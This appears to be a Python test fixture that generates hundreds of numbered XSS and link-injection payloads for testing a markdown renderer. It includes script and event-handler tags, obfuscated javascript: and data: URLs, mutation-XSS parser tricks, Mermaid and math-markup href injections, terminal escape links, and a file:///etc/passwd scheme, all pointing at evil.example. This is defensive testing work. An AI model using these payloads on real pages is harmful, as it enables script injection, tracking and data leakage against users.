r"""Answers that would run, fetch or lead somewhere if a page believed them; written for these tests.

Each names a host that is nobody's, or sets `window.acted`. `{U}` is the address, `{H}` the host with its path, `{J}`
the script; the number of the attack is in both, so that what gets through can be told by it.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

from nbkit.types import Format


@dataclass(frozen=True, slots=True)
class Attack:
    """One answer."""

    family: str
    text: str
    form: Format = "md"


def _each(*templates: str, **parts: list[str]) -> list[str]:
    """The templates with every part put in, or as they are where they name none of them."""
    made = list(templates)
    for name, values in parts.items():
        mark = f"{{{name}}}"
        made = [one.replace(mark, value) for one in made for value in (values if mark in one else [""])]
    return made


_SCHEMES = [
    "javascript:{J}", "JaVaScRiPt:{J}", "java\tscript:{J}", "java\nscript:{J}", " javascript:{J}", "\x01javascript:{J}",
    "&#106;avascript:{J}", "&#x6A;avascript&colon;{J}", "javascript&#58;{J}", "&Tab;javascript:{J}", "%6Aavascript:{J}",
    "vbscript:{J}", "data:text/html,<script>{J}</script>", "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuYWN0ZWQ9MTwvc2M+",
    "data:image/svg+xml,<svg onload={J}>", "file:///etc/passwd", "blob:{U}", "view-source:{U}", "filesystem:{U}",
    "feed:javascript:{J}", "jar:{U}!/", "ms-word:ofe|u|{U}", "ftp://{H}", "ws://{H}", "about:blank#{U}",
]  # fmt: skip
_WHERE = [
    "{U}", "//{H}", "\\\\{H}", "/\\{H}", "https:/{H}", "https:{H}", "https:\\\\{H}", "HTTPS://{H}", "<{U}>", "\n{U}",
    "\t{U}", "%68ttps://{H}", "&#104;ttps://{H}", "https&colon;//{H}", "https:&#x2f;&#x2f;{H}", "https%3A%2F%2F{H}",
    "&amp;#104;ttps://{H}", "ht\ntps://{H}", "https://user:pw@{H}", "https://docs.example.org@{H}",
    "https://docs.example.org\\@{H}", "https://\u200b{H}", "https://\u202e{H}", "https://\u00ad{H}",
    "https://e\u2060{H}", "h\U000e0074ttps://{H}", "https\uff1a//{H}", "https:\u2215\u2215{H}", "\ufeff{U}", "\x1b{U}",
    "https://\u0435vil.example/x", "https://xn--vil-1ja.example/x", "https://evil\u3002example/x",
    "https://0x7f.1.evil.example/x", "{U}?q=" + "A" * 3000, "../../x?next={U}", "?url={U}", "attachment:x",
]  # fmt: skip

_IN = {
    "links": _each("[go]({W})", W=_WHERE),
    "images": _each("![see]({W})", W=_WHERE),
    "schemes": _each("[go]({S})", "![see]({S})", "<{S}>", S=_SCHEMES),
    "titles": _each(
        '[go]({U} "t")', "[go]({U} 't')", "[go]({U} (t))", '[go](<{U}> "a" )', '[go]({U} "a\nb")', '![s]({U} "{U}")',
        '![s]({U} "\\" onerror={J} ")', "[go]({U}'onclick='{J})", '[go](#a "t" {U})', "[go]()({U})", "[go]( <> )({U})",
    ),
    "references": _each(
        "[go][r]\n\n{D}", "[r]\n\n{D}", "[r][]\n\n{D}", "![s][r]\n\n{D}", "![r]\n\n{D}", "![r][]\n\n{D}",
        "[go] [r]\n\n{D}", "[go]\n[r]\n\n{D}", "> {D}\n\n[r]", "- {D}\n\n[r]", "{D}\n[r]",
        D=["[r]: {U}", "[r]:{U}", "[r]: <{U}>", "[r]:\n{U}", "   [r]: {U} 't'", "[R]: //{H}", "[r]: {U}\n'a\nb'"],
    ),
    "labels": _each(
        "[{L}]\n\n[{L}]: {U}", L=["^1", "a\nb", "a\\]b", "*a*", "`a`", "!a", "1", "\u1e9e", " a  b ", "@a"],
    ),
    "nested": [
        "[![s]({U})]({U})", "[a [b] c]({U})", "[a ![s]({U}) b]({U})", "![a [b]({U}) c]({U})", "[a](b)({U})",
        "[[go]({U})]", "[a](#b)[c]({U})", "[a](#b)]({U})", "![a](#b)({U})", "[a\\](b)]({U})", "[a`](b`)]({U})",
        "*[a*]({U})", "[*a]({U})*", "**![s**]({U})", "~~[a~~]({U})", "[a]({U}[b]({U}))", "[a](<b> [c]({U}))",
        "[a](({U}))", "[a]({U}\\))", "![![![s]({U})]({U})]({U})", "[<b>]({U})", "[a][b]({U})", "[a](b\\)]({U})",
    ],
    "bare addresses": ["a@evil.example", "<a@evil.example>", "mailto:a@evil.example", "xmpp:a@evil.example/x",
    "<//{H}>", "<www.{H}>"],
    "addresses": _each(
        "{A}", "see {A}.", "({A})", "*{A}*", "_{A}_", "~~{A}~~", '"{A}"', "a,{A}", "|{A}|", "{A}`", "x{A}",
        A=["{U}", "www.{H}", "WWW.{H}", "<{U}>", "ftp://{H}", "https://www.{H}", "wWw.{H}"],
    ),
    "tags": [
        "<script>{J}</script>", "<script src={U}></script>", "<SCRIPT\n>{J}</SCRIPT >", "<scr<script>ipt>{J}</script>",
        "<img src={U}>", "<img src=x onerror={J}>", "<img/src=x/onerror={J}>", "<img\tsrc=x\tonerror={J}>",
        '<img src="x" srcset="{U} 2x">', "<picture><source srcset={U}><img></picture>", "<image href={U}>",
        "<svg onload={J}>", "<svg><script>{J}</script></svg>", "<svg><image href={U} /></svg>",
        "<svg><a xlink:href=javascript:{J}><text y=9>a</text></a></svg>", "<svg><use href={U}#a /></svg>",
        "<svg><animate onbegin={J} attributeName=x dur=1s>", "<svg><foreignObject><img src={U}></foreignObject></svg>",
        "<math><mi xlink:href={U}>x</mi></math>", "<math href=javascript:{J}>x</math>",
        "<math><mtext><table><mglyph><style><img src={U} onerror={J}>", "<iframe src={U}></iframe>",
        "<iframe srcdoc='<script>parent.acted=1</script>'></iframe>", "<object data={U}></object>", "<embed src={U}>",
        "<style>@import '{U}';</style>", "<style>*{background:url({U})}</style>", "<link rel=stylesheet href={U}>",
        "<link rel=prefetch href={U}>", "<meta http-equiv=refresh content='0;url={U}'>", "<base href={U}>",
        "<form action={U}><button>a</button></form>", "<button formaction={U}>a</button>", "<input type=image src={U}>",
        "<input autofocus onfocus={J}>", "<video src={U} autoplay></video>", "<video poster={U}></video>",
        "<audio src={U} onerror={J}></audio>", "<video><source src={U} onerror={J}></video>", "<track src={U}>",
        "<marquee onstart={J}>a</marquee>", "<details open ontoggle={J}>a</details>", "<body onload={J}>",
        "<body background={U}>", "<table background={U}><tr><td>a</table>", "<a href={U} ping={U}>a</a>",
        "<a href=javascript:{J}>a</a>", "<area href={U}>", "<div style='background:url({U})'>a</div>",
        "<div style='background:u\\72l({U})'>a</div>", "<div style=\"background:&#117;rl('{U}')\">a</div>",
        "<p style='list-style-image:url({U})'>a</p>", "<p style='content:url({U})'>a",
        "<li style='cursor:url({U}),auto'>a",
        "<p style='animation:x' onanimationstart={J}>a", "<template><img src={U}></template>",
        "<slot onslotchange={J}>",
        "<template shadowrootmode=open><img src={U}></template>", "<noscript><img src={U}></noscript>",
        "<noscript><p title='</noscript><img src=x onerror={J}>'>", "<select><option><img src=x onerror={J}></select>",
        "<textarea></textarea><img src={U}>", "<xmp><img src={U}></xmp>", "<plaintext><img src={U}>",
        "<a\nhref={U}>a</a>",
        "<x-a onpointerenter={J} style=display:block>a", "<p contenteditable onblur={J} autofocus>a",
        "<dialog open oncancel={J}>",
        "<portal src={U}>", "<fencedframe src={U}>", "<frameset onload={J}><frame src={U}>",
        "<applet code=x codebase={U}>",
        "<div popover id=p onbeforetoggle={J}>a", "<img src=x onerror=&#119;indow.acted=1>",
        "<img src=&#x68;ttps://{H}>",
        "<img src='{U}", "<img src=`{U}`>", "<\x00img src={U}>", "<i\u200bmg src={U}>", "<\U000e0069mg src={U}>",
        "<im\ng src={U}>",
        "<div\n\n><img src={U}></div>", "<div>\n\n[go]({U})\n\n</div>", "<b>[go]({U})</b>", "<%= '<img src={U}>' %>",
        "</p><img src={U}>",
    ],
    "markup": [
        "<!-- --><img src={U}>", "<!--><img src={U}>-->", "<!-- a\n\n<img src={U}>", "<!-- a --!><img src={U}>",
        "<![CDATA[<img src={U}>]]>", "<![CDATA[a]]><img src={U}>", "<?php a ?><img src={U}>",
        "<?xml-stylesheet href={U}?>",
        "<!DOCTYPE a [<!ENTITY b SYSTEM '{U}'>]>", "<!ELEMENT a><img src={U}>", "<!-a><img src={U}>",
        "</ ><img src={U}>",
    ],
    "entities": [
        "&lt;img src={U}&gt;", "&amp;lt;img src={U}&amp;gt;", "&#60;img src={U}&#62;",
        "&#x3c;script&#x3e;{J}&#x3c;/script&#x3e;",
        "&lt;img src=x onerror={J}>", "\\<img src={U}>", "\\\\<img src={U}>", "&LT;img src={U}&GT;",
        "&#0000060;svg onload={J}>",
        "%3Cimg src={U}%3E", "\\x3cimg src={U}\\x3e", "\\u003cimg src={U}\\u003e", "&bsol;<img src={U}>",
        "&#91;go&#93;({U})",
        "[go]&#40;{U}&#41;", "\\[go]({U})", "\\\\[go]({U})", "!\\[s]({U})", "\\![s]({U})", "[go\\]({U})",
        "[go\\\\]({U})",
    ],
    "blocks": _each(
        "| a |\n|---|\n| {X} |", "| {X} |\n|---|\n| a |", "- {X}", "1. a\n\n   {X}", "- [ ] {X}", "> {X}", "> > - {X}",
        "# {X}",
        "{X}\n===", "a  \n{X}", "***\n{X}", "    a\n{X}", "a\n    {X}", "- a\n\n      {X}", "\t{X}",
        "[^1]\n\n[^1]: {X}", "a\n: {X}", "a\n     \n    {X}", "- a\n\n\u00a0\n\n    {X}", "* ~~~\n\u3000 {X}",
        X=["[go]({U})", "![s]({U})", "<img src=x onerror={J}>", "{U}"],
    ),
    "code": _each(
        "```\na\n```\n{X}", "```\na\n````\n{X}", "````\n```\n{X}\n````\n{X}", "```\n```~\n{X}", "~~~\n```\n~~~\n{X}",
        "~~~ a\n~~~ b\n{X}\n~~~",
        "``` {X}", "~~~ {X}", "```a`\n{X}\n```", "> ```\n{X}", "> ```\n> a\n{X}\n> ```", "- ```\n  a\n{X}\n",
        "- a\n        ```\n        {X}",
        "1. ```\n   a\n   ```\n{X}", "a\n2. ```\n   {X}", "   ```\n{X}\n     ```\n{X}", "\u00a0```\n{X}\n```",
        "`` ` {X}", "`a\n{X} `b",
        "\\`{X}`", "`{X}\\`", "``{X}`", "| ` | {X} ` |\n|---|---|\n| a | b |", "[a`]({U})`", "*a `b* {X}`",
        "~~``` {X} ``` a", "    a\n\n\n{X}",
        "- a\n\n    {X}", "a\n \t\n    {X}", "<pre>\n{X}\n</pre>", "```\n{X}", "~a `b~ {X}`", "$$\n```\n$$\n{X}\n```",
        "$a` b$ {X} `",
        X=["[go]({U})", "<img src=x onerror={J}>"],
    ),
    "fences": _each(
        '{F}x" onfocus="{J}" autofocus tabindex="0\na\n{F}',
        '{F}x" style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="{J}\na\n{F}',
        '{F}x" style="background:url(//{H})\na\n{F}', "{F}x' style='background:url(//{H})\na\n{F}",
        '{F}x\\" style=\\"background:url(//{H})\na\n{F}',
        '- [ ] {F}x" style="background:url(//{H})\n  a\n  {F}', '> {F}x" style="background:url(//{H})\n> a\n> {F}',
        "{F}{image} {U}\n{F}",
        '{F}$a\n" style="background:url(//{H})" $\na\n', '$"style="background:url(//{H})" x="$\n\n{F}@\\@0@@\na\n{F}',
        "{F}{raw} html\n<img src={U}>\n{F}",
        '\\\\("style="background:url(//{H})" x="\\\\)\n\n{F}\\@@0@\\@\na\n{F}',
        '{F}mermaid\nflowchart TD\n  A@{ img: "//{H}", h: 9, w: 9 }\n{F}',
        '{F}mermaid\n%%{init: {"themeCSS": "*{background:url(//{H})}"}}%%\nflowchart TD\n  A-->B\n{F}',
        '{F}mermaid\nflowchart TD\n  A[a]\n  click A href "{U}"\n{F}',
        '> {F}mermaid\n> flowchart TD\n>   A@{ img: "//{H}", h: 9, w: 9 }\n> {F}',
        '- {F} mermaid\n  flowchart TD\n    A@{ img: "//{H}", h: 9, w: 9 }\n  {F}',
        '- [x] {F}\u3000mermaid\n  flowchart TD\n    A@{ img: "//{H}", h: 9, w: 9 }\n  {F}',
        '- a\n\n  - {F}mermaid\n    flowchart TD\n      A@{ img: "//{H}", h: 9, w: 9 }\n    {F}',
        F=["```", "~~~~"],
    ),
    "mathematics": _each(
        "${T}$", "$$\n{T}\n$$", "\\\\({T}\\\\)", "\\begin{align}{T}\\end{align}",
        T=["\\href{https:/{H}}{x}", "\\href{javascript:{J}}{x}", "\\url{//{H}}", "\\includegraphics{//{H}}",
           "\\require{html}\\href{//{H}}{x}",
           "\\style{background:url(//{H})}{x}", '\\mmlToken{mi}[href="//{H}"]{x}',
           "\\mmlToken{mi}[style='background:url(//{H})']{x}",
           "\\bbox[background:url(//{H})]{x}", "\\class{x}{y}\\cssId{z}{y}", "\\unicode[//{H}]{65}",
           "\\let\\a=\\href \\a{//{H}}{x}",
           "\\def\\a{\\href{//{H}}}\\a{x}", "\\newcommand{\\a}[1]{\\href{#1}{x}}\\a{//{H}}",
           "\\csname href\\endcsname{//{H}}{x}",
           "<img src=x onerror={J}>", "&lt;img src=x onerror={J}&gt;", "\\text{<img src={U}>}",
           "\\htmlStyle{background:url(//{H})}{x}",
           '\\htmlData{a="onclick={J}"}{x}', "\\data{a=b}{x}", "\\\\href{//{H}}{x}",
           "\\ref{//{H}}\\eqref{x}\\tag{<img src={U}>}", "[go]({U})"],
    ),
    "attributes": [
        '![$" onerror="{J}" x="$](#a)', '![$" style="background:url(//{H})" x="$](#a)', '![$$" onload="{J}" x="$$](#a)',
        '![\\\\(" style="background:url(//{H})" x="\\\\)](#a)', '$" style="background:url(//{H})" x="$ ![@\\@0@@](#a)',
        '![a$](#b) " onerror="{J}" $',
        '[$" onmouseover="{J}" x="$](#a)', '# $" onmouseover="{J}" x="$', "![@@0@@](#a) $x$",
        '[a](#@@0@@) $" style="background:url(//{H})" $',
        '![a](#b "$" onerror="{J}" $")', '[a](#b "$" onclick="{J}" $")', '| $" onclick="{J}" $ |\n|:$:|\n| a |',
        "- [$x$] @\\@0@@ [a](#\\@)",
    ],
    "terminal": _each(
        "{E}8;;{U}{B}go{E}8;;{B}", "{E}8;id=1;{U}{B}go{E}8;;{B}", "\x1b[31m[go]({U})\x1b[0m", "\x1b]0;{U}\x07",
        "\x9b31m<img src={U}>", "\r![s]({U})",
        E=["\x1b]", "\x9d"], B=["\x07", "\x1b\\"],
    ),
    "citations": [
        "It is so [1]({U}).", "It is so [1][{U}].", "It is so [1]: {U}", "[1]: {U}\n\nIt is so [1].",
        "It is so [\\[1\\]]({U}).", "It is so ![1]({U}).",
        "It is so [1](#nbkit-record-1).", "It is so [1](#nbkit-1)({U}).", "It is so [[1]({U})][1].", "![a [1]]({U})",
        "[a [1]({U})", "[a\n\n [1]]({U})",
        "<a id=nbkit-record-0001-1 href={U}>a</a> [1]", "[a](#x [1] {U})", "`a [1]` [1]({U})", '![" onerror="{J} [1]',
        "$a [1]$ [1] @\\@0@@", "[1][1][1]({U})",
    ],
}  # fmt: skip
_CORE = [
    "[go]({U})", "![s]({U})", "<img src=x onerror={J}>", "<script>{J}</script>", "{U}", "```\n{U}\n```\n<img src={U}>",
    "\x1b]8;;{U}\x07go\x1b]8;;\x07",
    '```mermaid\nflowchart TD\n  A@{ img: "//{H}", h: 9, w: 9 }\n```', '```x" style="background:url(//{H})\na\n```',
    "$\\href{//{H}}{x}$",
    "| a | b |\n|---|---|\n| [go]({U}) | <img src=x onerror={J}> |", "```md\n| a |\n|---|\n| ![s]({U}) |\n```",
    '{"a": "<img src=x onerror={J}>", "b": "{U}"}',
]  # fmt: skip
_OTHER_FORMS: Final[tuple[Format, ...]] = ("text", "json", "code", "table")


def attacks() -> list[Attack]:
    """All of them, no text twice but in other formats."""
    found = dict.fromkeys(_unnumbered())
    return [Attack(one.family, _numbered(one.text, number), one.form) for number, one in enumerate(found)]


def _unnumbered() -> Iterator[Attack]:
    for family, texts in _IN.items():
        yield from (Attack(family, text) for text in texts)
    for form in _OTHER_FORMS:
        yield from (Attack(f"format {form}", text, form) for text in _CORE)


def _numbered(text: str, number: int) -> str:
    address = text.replace("{U}", "https://{H}").replace("{H}", f"evil.example/x{number}")
    return address.replace("{J}", f"window.acted={number}+1")
